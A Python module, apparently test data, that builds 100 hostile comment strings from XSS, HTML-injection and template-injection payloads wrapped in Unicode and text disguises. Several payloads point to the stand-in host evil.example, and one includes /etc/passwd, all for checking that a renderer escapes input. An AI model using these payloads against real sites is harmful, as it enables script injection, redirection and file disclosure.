"""A hundred comments that want to become something else than text."""

from itertools import product

MARKUP = (
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<svg/onload=window.owned=1>",
    "</textarea><script>window.owned=1</script>",
    "</span></blockquote><script>window.owned=1</script>",
    '" autofocus onfocus="window.owned=1',
    "' data-marks='{}' onclick='window.owned=1",
    "<iframe src='https://evil.example/'></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>send</button></form>",
    "<a href='javascript:window.owned=1'>click</a>",
    "<object data='data:text/html,<script>window.owned=1</script>'></object>",
    "<math><mtext></form><form><mglyph><style><img src=x onerror=window.owned=1>",
    "<!--<script>window.owned=1</script>-->",
    "{{ config }}{% include '/etc/passwd' %}${window.owned=1}",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "<video><source onerror=window.owned=1></video>",
)
DISGUISES = (
    "{}",
    "You idiot {} thanks",
    "\u202e{}\u202c",
    "\u200b{}\u0301\u0301\u0301",
    "שלום {} مرحبا",
)
HOSTILE_COMMENTS = tuple(
    disguise.replace("{}", markup) for markup, disguise in product(MARKUP, DISGUISES)
)
